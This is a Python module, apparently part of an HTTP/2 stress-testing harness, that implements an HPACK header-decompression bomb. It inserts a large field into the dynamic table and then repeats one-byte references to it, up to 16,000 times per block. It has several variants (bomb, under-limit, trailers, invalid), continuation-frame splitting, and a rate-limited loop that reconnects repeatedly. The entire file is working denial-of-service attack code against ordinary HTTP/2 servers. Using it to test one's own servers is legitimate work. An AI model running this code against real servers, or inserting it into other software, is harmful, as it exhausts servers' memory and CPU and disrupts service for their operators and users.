"""Header blocks that are small on the wire and large when decoded: one field of 3.9 KB in the dynamic table, then one byte
for each time it is named again. A stranger's; 0.4 MB/s by default, over one connection after the other.

Shapes: `bomb` names the field 16,000 times in one block, `under` stays just under the header limit with many requests,
`trailers` puts the references behind a body, `invalid` makes the field one that is dropped after it was looked at.
"""
import time

from raw_h2 import CONTINUATION, END_HEADERS, END_STREAM, GOAWAY, HEADERS, RST_STREAM, Closed, Connection, block, text

POINT = 5
REFERENCE = b"\xbe"  # the newest entry of the dynamic table (index 62)
FIELD = "v" * 3900
BOMB = 16000
FRAME = 16384
UNDER = 7  # fields of 3.9 KB within 32 KiB
PATHS = ((":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/healthz"))


def entry(value=FIELD):
    """A literal that goes into the dynamic table."""
    return b"\x40" + text("x-large") + text(value)


def bomb(count=BOMB, value=FIELD):
    """One block: the field, then `count` references to it."""
    return block(*PATHS) + entry(value) + REFERENCE * count


def under(first):
    return block(*PATHS) + (entry() if first else REFERENCE) + REFERENCE * (UNDER - 1)


def send(connection, payload, flags=END_STREAM, stream=None):
    """A header block in as many frames as it needs; returns the stream."""
    parts = [payload[at:at + FRAME] for at in range(0, len(payload), FRAME)]
    stream = connection.headers(parts[0], flags | (END_HEADERS if len(parts) == 1 else 0), stream)
    for i, part in enumerate(parts[1:], 2):
        connection.frame(CONTINUATION, END_HEADERS if i == len(parts) else 0, stream, part)
    return stream


def offend(connection, shape, first):
    """Sends one block; returns its bytes on the wire."""
    if shape == "trailers":
        stream = connection.headers(block((":method", "POST"), *PATHS[1:]), END_HEADERS)
        payload = entry() + REFERENCE * BOMB
        send(connection, payload, stream=stream)
    else:
        payload = under(first) if shape == "under" else bomb(value=FIELD[:-1] + "\x01" if shape == "invalid" else FIELD)
        send(connection, payload)
    return len(payload) + 9


def listen(connection, counts):
    """What came back meanwhile. False: the connection is over."""
    connection.socket.settimeout(0.001)
    try:
        while True:
            frame = connection.read()
            if frame.kind == HEADERS:
                counts["answers"] += 1
            elif frame.kind == RST_STREAM:
                counts["resets"] += 1
            elif frame.kind == GOAWAY:
                counts["goaways"] += 1
                return False
    except TimeoutError:
        return True
    except (Closed, OSError):
        return False
    finally:
        connection.socket.settimeout(2)


def attack(target, stop, shape="bomb", bytes_per_s=400_000):
    counts = {"blocks": 0, "bytes": 0, "answers": 0, "resets": 0, "goaways": 0, "connections": 0, "refused": 0}
    began = time.monotonic()
    while not stop.is_set():
        try:
            with Connection(target.h2c, timeout_s=2) as connection:
                counts["connections"] += 1
                first = True
                while not stop.is_set():
                    counts["bytes"] += offend(connection, shape, first)
                    counts["blocks"] += 1
                    first = False
                    if not connection.orderly or (counts["blocks"] % (64 if shape == "under" else 1) == 0 and
                                                  not listen(connection, counts)):
                        break
                    stop.wait(max(0.0, counts["bytes"] / (bytes_per_s * target.share) - (time.monotonic() - began)))
        except OSError:
            counts["refused"] += 1
        stop.wait(max(0.01, counts["bytes"] / (bytes_per_s * target.share) - (time.monotonic() - began)))
    return counts
